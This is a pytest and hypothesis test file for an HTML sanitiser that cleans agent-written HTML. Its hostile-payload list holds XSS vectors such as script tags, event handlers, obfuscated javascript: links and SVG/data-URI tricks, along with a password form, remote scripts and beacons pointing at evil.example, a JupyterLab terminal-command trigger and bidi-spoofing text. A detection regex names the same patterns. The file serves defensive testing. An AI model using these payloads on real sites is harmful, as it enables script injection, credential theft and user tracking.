"""The one allow-list policy for agent-written HTML, against hostile payloads."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import html as lxml_html

from oo_nb.format.sanitize import (
    ALLOWED_TAGS,
    is_safe_image_src,
    safe_http_url,
    sanitize_html,
    sanitize_text,
)

PNG_URI = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<p onclick=alert(1) onmouseover='alert(2)'>x</p>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<svg onload=alert(1)><circle r="5"/></svg>',
    "<svg><script>alert(1)</script></svg>",
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<iframe src="https://evil.example"></iframe>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<form action="https://evil.example"><input name="password"><button>go</button></form>',
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',
    "<style>body{background:url(https://evil.example/beacon)}</style>",
    '<p style="background-image:url(https://evil.example/beacon)">x</p>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<base href="https://evil.example/">',
    '<p data-commandlinker-command="terminal:create-new" data-commandlinker-args="{}">run</p>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="https://evil.example/beacon.png">',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<p id="oo-manifest">{"title": "x"}</p>',
    '<div id="toc">fake</div><span id="article">x</span>',
    "<!-- not a pid --><p>x</p><!--[if IE]><script>alert(1)</script><![endif]-->",
    "<p>a</p></script><script>alert(1)</script>",
    "<textarea><script>alert(1)</script></textarea>",
    '<a href="https://ok.example/" target="_blank" rel="opener">x</a>',
    "<p>x</p><article>y</article></article><script>alert(1)</script>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<isindex action=javascript:alert(1)>",
    "<scr<script>ipt>alert(1)</script>",
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<p title="x" class="stub-notice version-badge">x</p>',
]

_BAD = re.compile(
    r"<script|<style|<iframe|<svg|<math|<form|<meta|<object|<embed|<link|<base|<template|"
    r"javascript:|vbscript:|data:text/html|data:image/svg|\son[a-z]+\s*=|style=|data-commandlinker|"
    r'id="(oo-manifest|toc|article)"|stub-notice|evil\.example/beacon|srcdoc',
    re.IGNORECASE,
)


@pytest.mark.parametrize("payload", HOSTILE)
def test_hostile_payloads_do_not_survive(payload: str) -> None:
    out = sanitize_html(payload)
    assert not _BAD.search(out), out
    # the result re-parses to the same tree: nothing hides behind parser differences
    assert sanitize_html(out) == out


def test_allowed_structure_is_kept() -> None:
    src = (
        '<!-- pid:overview:a1b2c3d4 -->\n<p id="intro" class="lead">Text <strong>bold</strong> '
        '<a href="https://example.org/a?b=1">link</a> [s1]</p>\n'
        '<h3 id="sub">Sub</h3><ul><li>one</li></ul>'
        '<div class="table-wrap"><table><thead><tr><th scope="col">A</th></tr></thead>'
        '<tbody><tr><td colspan="2">1</td></tr></tbody></table></div>'
        f'<figure class="fig-right"><img src="{PNG_URI}" alt="a"><figcaption>Cap. '
        '<span class="img-src">Source: <a href="https://example.org/">example.org</a></span></figcaption></figure>'
        '<a href="#sub">jump</a>'
    )
    out = sanitize_html(src)
    assert out.startswith('<!-- pid:overview:a1b2c3d4 -->\n<p id="intro" class="lead">')
    for piece in (
        '<a href="https://example.org/a?b=1" rel="noopener noreferrer">link</a>',
        '<h3 id="sub">Sub</h3>',
        '<th scope="col">A</th>',
        '<td colspan="2">1</td>',
        f'<img src="{PNG_URI}" alt="a">',
        '<span class="img-src">',
        '<a href="#sub" rel="noopener noreferrer">jump</a>',
        '<div class="table-wrap">',
    ):
        assert piece in out, piece


def test_links_get_rel_and_only_http() -> None:
    out = sanitize_html(
        '<a href="http://a.example/">a</a><a href="ftp://x/">b</a><a href="/rel">c</a>'
    )
    assert out.count('rel="noopener noreferrer"') == 3
    assert 'href="http://a.example/"' in out and "ftp:" not in out and "/rel" not in out


def test_pid_comments_kept_other_comments_dropped() -> None:
    out = sanitize_html(
        "<!-- pid:a:12345678 --><p>x</p><!-- secret --><!--pid:b:abcdef01--><p>y</p>"
    )
    assert re.findall(r"<!--.*?-->", out) == ["<!-- pid:a:12345678 -->", "<!-- pid:b:abcdef01 -->"]


def test_pid_like_text_in_attributes_cannot_break_out() -> None:
    out = sanitize_html(
        '<a title="<!-- pid:x:y -->" href="https://a.example/">t</a><p title=\'"><script>\'>z</p>'
    )
    tree = lxml_html.fragment_fromstring(out, create_parent="div")
    assert [e.tag for e in tree.iter()] == ["div", "a", "p"]
    assert "<script" not in out


def test_h1_h2_become_h3() -> None:
    out = sanitize_html('<h1>A</h1><h2 id="references">B</h2>')
    assert out == "<h3>A</h3><h3>B</h3>"


def test_reserved_ids_parameter() -> None:
    out = sanitize_html('<p id="status">x</p><p id="free">y</p>', reserved_ids={"status"})
    assert 'id="status"' not in out and 'id="free"' in out
    # the page script's reference anchors
    assert "id=" not in sanitize_html('<p id="s3">x</p><p id="ref-2">y</p><p id="REFERENCES">z</p>')


def test_image_sources() -> None:
    assert is_safe_image_src(PNG_URI)
    for bad in (
        "data:image/svg+xml;base64,PHN2Zz4=",
        "data:text/html;base64,PHA+",
        "data:image/png,<svg>",
        "https://x.example/a.png",
        'data:image/png;base64,AAAA"onerror=alert(1)',
    ):
        assert not is_safe_image_src(bad), bad
        if '"' not in bad:
            assert "<img" not in sanitize_html(f'<img src="{bad}">')


def test_terminator_line_left_for_the_document_to_neutralise() -> None:
    # with_article() neutralises "OO_HTML" lines with the document's own marker; the sanitiser
    # keeps the text so nothing is silently lost.
    assert "OO_HTML" in sanitize_html("<p>a</p>\nOO_HTML\n<p>b</p>")


def test_safe_http_url() -> None:
    assert safe_http_url(" https://a.example/x ") == "https://a.example/x"
    for bad in ("javascript:alert(1)", "https://", "https://a.example/\"x", "//a.example", "https://a b.example", "",
                "https://bank.example@evil.example/", "https://u:p@a.example/"):  # fmt: skip
        assert safe_http_url(bad) is None, bad


def test_sanitize_text() -> None:
    assert sanitize_text("<b>Hello</b> <script>alert(1)</script>world") == "Hello world"
    assert sanitize_text("a < b & c > d") == "a < b & c > d"
    assert sanitize_text("&lt;script&gt;alert(1)&lt;/script&gt;x") == "alert(1)x"
    assert sanitize_text("evil\u202etxt.exe\x00\x07 ok") == "evil txt.exe ok"
    assert sanitize_text("x" * 50, max_len=10) == "x" * 9 + "…"
    assert sanitize_text("line1\n\n\n\nline2", multiline=True) == "line1\n\nline2"
    assert sanitize_text(None) == ""  # type: ignore[arg-type]


# --------------------------------------------------------------------------- property: only allowed output
_PIECES = [
    "<p>", "</p>", "<script>", "</script>", "<svg onload=x>", "<img src=x onerror=y>", "<a href='",
    "javascript:", "data:text/html,", "'>", "<!--", "-->", " pid:s:12345678 ", "<style>", "</style>",
    '<div id="oo-manifest" style="x">', "</div>", "<iframe srcdoc='", "<h2>", "</h2>", "<table>",
    "<tr><td>", "<math>", "<template>", "<noscript>", "</noscript>", "\nOO_HTML\n", "&lt;", "&#x3c;",
    "<", ">", '"', "'", "=", " on", "click", "<form>", "<textarea>", "<figure>", "<figcaption>",
    "data:image/png;base64,AAAA", "<a href=https://ok.example/>", "</a>", "x", " ",
]  # fmt: skip
_ATTRS = {"id", "class", "title", "lang", "dir", "href", "rel", "src", "alt", "width", "height",
          "colspan", "rowspan", "scope", "span", "start", "reversed", "datetime"}  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(_PIECES), max_size=40).map("".join))
def test_any_input_gives_only_allowed_markup(payload: str) -> None:
    out = sanitize_html(payload)
    # Not always a fixed point (lxml's pre-parse and html5ever disagree on e.g. a table inside a
    # link), but every pass gives only allowed markup.
    for text in (out, sanitize_html(out)):
        _only_allowed(text)


def _only_allowed(out: str) -> None:
    if not out.strip():
        return
    root = lxml_html.fragment_fromstring(out, create_parent="div")
    for el in root.iter():
        if not isinstance(el.tag, str):
            assert re.fullmatch(r"\s*pid:[A-Za-z0-9_-]+:[A-Za-z0-9_-]+\s*", el.text or ""), el.text
            continue
        assert (el.tag == "div" and el is root) or el.tag in ALLOWED_TAGS, el.tag
        for name, value in el.attrib.items():
            assert name in _ATTRS, name
            if name in ("href", "src"):
                assert value.startswith(("https://", "http://", "#", "data:image/")), value
            if name == "id":
                assert not value.startswith("oo-")


def test_unclosed_comment_does_not_swallow_the_rest() -> None:
    from oo_nb.format.sanitize import sanitize_html as _clean

    out = _clean("<p>first</p><!-- oops <p>kept [s1]</p><script>x()</script>")
    assert "kept [s1]" in out and "first" in out
    assert "<script" not in out and "&lt;!--" in out
    assert _clean("<!-- pid:a:0011aabb --><p>x</p><!-- ok -->").count("<!--") == 1


@pytest.mark.parametrize(
    "fragment",
    [
        "<p>Price fell to \u202e05.0$\u202c per kWh</p>",  # shown as "$0.50" in a browser
        "<p>a\x1b[2Jb</p>",
        "<p>a&#x202e;b&#27;</p>",  # character references are the characters
        '<p title="a\u2066b">x\u200by</p>',
        "<ul><li>\x9b31m\x07</li></ul>",
    ],
)
def test_control_and_bidi_characters_are_removed_and_named(fragment: str) -> None:
    removed: list[str] = []
    clean = sanitize_html(fragment, removed=removed)
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200b]", clean)
    assert removed and all(name.startswith("\\u") for name in removed)
    assert sanitize_html(clean) == clean  # idempotent


def test_an_edit_that_loses_bidi_characters_says_so() -> None:
    from oo_nb.format.sanitize import removed_by_cleaning

    typed = "<p>Price \u202e05.0$</p>"
    assert removed_by_cleaning(typed, sanitize_html(typed)) == [
        "control or bidi characters (\\u202e)"
    ]
